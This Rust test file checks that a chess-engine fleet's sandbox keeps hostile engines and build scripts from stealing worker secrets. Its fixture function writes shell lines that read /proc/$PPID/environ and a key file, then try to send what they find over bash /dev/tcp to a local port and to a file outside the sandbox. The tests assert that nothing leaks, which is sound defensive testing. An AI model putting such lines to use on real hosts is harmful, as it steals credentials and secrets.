//! Workers of the fleet's server that an engine cannot rob: the engines and builds of an approved
//! run start in a box (`runner::play::sandbox`). A hostile engine (a shell script wrapping the
//! bundled engine) and a hostile build script look for the worker's secrets (its environment
//! through `/proc/$PPID/environ`, its key file, their own environment), try to write what they
//! found outside their folder, to send it to a port on 127.0.0.1 and to print it: they find
//! nothing, write and send nothing, and the games are played. Stockfish's `Debug Log File` pointing
//! at a worker's file leaves it untouched. `runner status RUN` and `runner approve RUN` show a
//! stored `/bin/sh -c '...'` in full; `runner approve` asks, and refuses a standard input that is
//! not a terminal without `--yes`.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use e2e::fleet::{Fleet, WorkerOpts, match_args};
use e2e::stderr;

/// Values of the worker's that no engine or build may see.
const ENV_SECRET: &str = "sekrit-env-3141";
const PG_SECRET: &str = "sekrit-pgpassword-2718";

/// A fleet and its book (the fleet's methods through `Deref`).
struct Boxed {
    f: Fleet,
    book: String,
}

impl Boxed {
    fn new(name: &str) -> Boxed {
        let f = Fleet::new(name);
        let book = e2e::write_book(&f.dir, 4);
        Boxed { f, book }
    }

    /// Submits a 4-game match at 1 node a move through the server (as `ops`, an approver);
    /// returns the run's id.
    fn submit(&self, a: &str, b: &str) -> i64 {
        self.f.submit(&match_args(a, b, &self.book, "4"))
    }

    /// A worker key issued through the server: the key and its file.
    fn key_file(&self, name: &str) -> (String, PathBuf) {
        let p = self.f.worker_key(name);
        (e2e::read_text(&p).trim().to_string(), p)
    }

    /// A worker of the server for `run` with the key in `key_file` (the fixture's when none),
    /// no `--trust`, secrets in its environment, its cache and engine logs in the scratch
    /// folder. Returns its log once it ended successfully.
    fn worker(&self, run: i64, key_file: Option<&Path>) -> String {
        let (status, text) = self.worker_ended(run, key_file);
        assert!(status.success(), "{text}");
        text
    }

    /// [`Boxed::worker`], however it ended: its exit status and log.
    fn worker_ended(
        &self,
        run: i64,
        key_file: Option<&Path>,
    ) -> (std::process::ExitStatus, String) {
        let dir = &self.f.dir;
        let (cache, logs) = (dir.join("cache"), dir.join("logs"));
        let (cache, logs) = (cache.display().to_string(), logs.display().to_string());
        let engine = e2e::engine_bin().display().to_string();
        let run_s = run.to_string();
        let args = [
            "--run",
            &run_s,
            "--concurrency",
            "2",
            "--cache",
            &cache,
            "--log-dir",
            &logs,
            // The hostile scripts start the bundled engine, which a checkout in a home or
            // under /tmp would have inside a folder the box hides.
            "--box-show",
            &engine,
        ];
        let env = [("MPC_BOX_TEST_SECRET", ENV_SECRET), ("PGPASSWORD", PG_SECRET)];
        let o = WorkerOpts { args: &args, env: &env, key_file, trust: Some(&[]), server: None };
        self.f.worker_run(&format!("worker-{run}"), o)
    }

    /// Every file's text under `dir`.
    fn text_under(dir: &Path) -> String {
        let mut out = String::new();
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                out.push_str(&Boxed::text_under(&p));
            } else if let Ok(b) = std::fs::read(&p) {
                out.push_str(&String::from_utf8_lossy(&b));
            }
        }
        out
    }

    /// The run pulled into a folder through the server, every file's text.
    fn pulled(&self, run: i64) -> String {
        let out = self.f.dir.join(format!("pulled-{run}"));
        self.f.pull(run, &out);
        Boxed::text_under(&out)
    }
}

impl std::ops::Deref for Boxed {
    type Target = Fleet;

    fn deref(&self) -> &Fleet {
        &self.f
    }
}

fn git(dir: &Path, args: &[&str]) {
    let o = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=test", "-c", "user.email=test@example.org"])
        .args(args)
        .output()
        .expect("git");
    assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
}

/// The shell lines that look for the worker's secrets and try to get them out: into `found`
/// (one line), `outside` (a file of the scratch folder), port `port` of 127.0.0.1 and the
/// process's stderr (`<what> ran: ...`).
fn hostile_lines(what: &str, key_file: &Path, outside: &Path, port: u16) -> String {
    format!(
        "found=\"$(cat /proc/$PPID/environ {key} 2>&1 | tr '\\000\\n' '  ') $(env | tr '\\n' ' ')\"\n\
         echo \"{what} ran: $found\" >&2\n\
         printf '%s\\n' \"$found\" > {outside} 2>/dev/null\n\
         printf '%s\\n' \"$found\" | bash -c 'cat > /dev/tcp/127.0.0.1/{port}' 2>/dev/null\n",
        key = key_file.display(),
        outside = outside.display(),
    )
}

fn write_script(p: &Path, body: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::write(p, body).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn assert_nothing_left(what: &str, text: &str, key: &str, outside: &Path, l: &TcpListener) {
    for secret in [key, ENV_SECRET, PG_SECRET, "RUNNER_DB", "MPC_BOX_TEST_SECRET"] {
        assert!(!text.contains(secret), "{what} found {secret}: {text}");
    }
    assert!(!outside.exists(), "{what} wrote {}", outside.display());
    match l.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("{what} connected to the test's port: {other:?}"),
    }
}

fn listener() -> (TcpListener, u16) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let port = l.local_addr().unwrap().port();
    (l, port)
}

#[test]
fn a_hostile_approved_engine_finds_nothing_writes_nothing_sends_nothing_and_plays() {
    let f = Boxed::new("fleet-box-engine");
    let (key, key_file) = f.key_file("box1");
    let (l, port) = listener();
    let outside = f.dir.join("stolen-by-engine");
    // On the submitter's machine it only plays (`runner submit` starts it): it acts on a
    // worker, from the cache.
    let theirs = f.dir.join("submitter");
    std::fs::create_dir_all(&theirs).unwrap();
    let script = theirs.join("hostile.sh");
    let engine = e2e::engine_bin();
    write_script(
        &script,
        &format!(
            "#!/bin/sh\ncase \"$0\" in */cache/*) ;; *) exec {e} \"$@\" ;; esac\n{lines}\
             echo \"info string $found\"\nexec {e} \"$@\"\n",
            e = engine.display(),
            lines = hostile_lines("engine", &key_file, &outside, port)
        ),
    );
    let a = format!("name=hostile,cmd={}", script.display());
    let b = format!("name=plain,cmd={}", engine.display());
    let run = f.submit(&a, &b);
    let log = f.worker(run, Some(&key_file));
    assert!(log.contains("engines and builds run in a box"), "{log}");
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {run}")), "complete", "{log}");
    assert_eq!(f.sql(&format!("SELECT count(*) FROM games WHERE run_id = {run}")), "4");
    let logs = Boxed::text_under(&f.dir.join("logs"));
    assert!(logs.contains("engine ran: "), "the engine's stderr: {logs}");
    let pulled = f.pulled(run);
    assert_nothing_left("the engine", &format!("{logs}\n{log}\n{pulled}"), &key, &outside, &l);
    assert_eq!(std::fs::read_to_string(&key_file).unwrap().trim(), key);
}

#[test]
fn a_hostile_build_script_finds_nothing_writes_nothing_sends_nothing() {
    let f = Boxed::new("fleet-box-build");
    let (key, key_file) = f.key_file("box2");
    let (l, port) = listener();
    let outside = f.dir.join("stolen-by-build");
    let repo = f.dir.join("engine-src");
    std::fs::create_dir_all(&repo).unwrap();
    let eng = format!(
        "#!/bin/sh\nif [ \"$1\" = bench ]; then\n  echo 'Nodes searched  : 4242' >&2\n  \
         echo 'Nodes/second    : 99000' >&2\n  exit 0\nfi\nexec {} \"$@\"\n",
        e2e::engine_bin().display()
    );
    std::fs::write(repo.join("eng.in"), eng).unwrap();
    // On a worker (in its cache) the build looks around, and keeps what it found as the last
    // line of the binary it makes (a comment after `exec`), which the test reads.
    let build = format!(
        "mkdir -p out\ncp eng.in out/eng\nchmod +x out/eng\n\
         case \"$PWD\" in */cache/*) ;; *) exit 0 ;; esac\n{lines}\
         printf '# build found: %s\\n' \"$found\" >> out/eng\n",
        lines = hostile_lines("build", &key_file, &outside, port)
    );
    std::fs::write(repo.join("build.sh"), build).unwrap();
    git(&repo, &["init", "-q"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-qm", "v1"]);
    let a = format!("name=dev,src={},build=sh build.sh,bin=out/eng", repo.display());
    let b = format!("name=plain,cmd={}", e2e::engine_bin().display());
    let run = f.submit(&a, &b);
    let log = f.worker(run, Some(&key_file));
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {run}")), "complete", "{log}");
    assert_eq!(f.sql(&format!("SELECT count(*) FROM games WHERE run_id = {run}")), "4");
    let built: Vec<PathBuf> = std::fs::read_dir(f.dir.join("cache"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            let n = p.file_name().unwrap().to_string_lossy().into_owned();
            n.starts_with("build-") && !n.ends_with(".sha256")
        })
        .collect();
    assert_eq!(built.len(), 1, "{built:?}");
    let binary = std::fs::read_to_string(&built[0]).unwrap();
    assert!(binary.contains("# build found: "), "the build did not run its lines: {binary}");
    assert_nothing_left("the build", &format!("{binary}\n{log}"), &key, &outside, &l);
}

#[test]
fn stockfish_plays_in_the_box_and_its_debug_log_file_leaves_a_workers_file_untouched() {
    let sf = Path::new("/usr/games/stockfish");
    assert!(sf.is_file(), "this test needs Debian's stockfish (apt-get install stockfish)");
    let f = Boxed::new("fleet-box-stockfish");
    let victim = f.dir.join("victim.txt");
    let a = format!("name=stockfish,option.Debug Log File={}", victim.display());
    let b = format!("name=plain,cmd={}", e2e::engine_bin().display());
    // `runner submit` starts the engines on the submitter's machine, unboxed: the file is
    // made afterwards, as a worker's.
    let run = f.submit(&a, &b);
    std::fs::write(&victim, "precious\n").unwrap();
    let (_, log) = f.worker_ended(run, None);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n", "{log}");
    // Stockfish exits when it cannot open its debug log (the file is read-only in the box), so
    // the worker refuses the run, saying why, rather than play it; the run stays active for
    // workers that can serve it. (Unboxed, the file would now be Stockfish's log.)
    // A checkout under /tmp puts the file in the box's private /tmp, where Stockfish writes
    // its log into the box's own folder (gone with the box) and plays: the file is untouched
    // either way.
    let refused = format!("refusing run {run}: cannot start an engine: engine stockfish");
    let state = f.sql(&format!("SELECT state FROM runs WHERE id = {run}"));
    let private = std::fs::canonicalize(&f.dir).unwrap().starts_with("/tmp");
    match private {
        false => assert!(log.contains(&refused) && state == "active", "{log}"),
        true => assert!(log.contains(&refused) || state == "complete", "{log}"),
    }
    // Without the option, Debian's Stockfish plays in the box to the run's end.
    let plain = f.submit("name=stockfish", &b);
    let log = f.worker(plain, None);
    assert!(log.contains("engines and builds run in a box"), "{log}");
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {plain}")), "complete", "{log}");
    assert_eq!(f.sql(&format!("SELECT count(*) FROM games WHERE run_id = {plain}")), "4");
}

#[test]
fn status_and_approve_show_a_stored_shell_command_in_full_and_approve_asks() {
    let f = Boxed::new("fleet-box-approve");
    let engine = e2e::engine_bin();
    let text = format!("exec {} \"$@\" # every word of this is shown", engine.display());
    let a = format!("name=shell,cmd=/bin/sh,arg=-c,arg={text},option.Hash=8");
    let b = format!("name=plain,cmd={}", engine.display());
    // A run of a submitter who is not an approver: it waits.
    let sub = f.user("sub", false);
    let (run, _) = f.submit_as(&sub, &match_args(&a, &b, &f.book, "4"));
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {run}")), "pending");
    let quoted = format!("command: /bin/sh -c '{text}'");
    let out = f.said("status", &[&run.to_string()]);
    assert!(out.contains(&quoted), "{out}");
    assert!(out.contains("Hash = 8"), "{out}");
    let sh = std::fs::canonicalize("/bin/sh").unwrap();
    let size = std::fs::metadata(&sh).unwrap().len();
    assert!(out.contains(&format!("{size} bytes")), "the stored /bin/sh's size: {out}");
    // An approver's approval from standard input that is not a terminal, without --yes.
    let o = f.person("approve", &[&run.to_string()]);
    assert!(!o.status.success());
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(out.contains(&quoted), "{out}");
    assert!(stderr(&o).contains("--yes"), "{}", stderr(&o));
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {run}")), "pending");
    let out = f.said("approve", &[&run.to_string(), "--yes"]);
    assert!(out.contains(&quoted) && out.contains("approved"), "{out}");
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {run}")), "active");
}
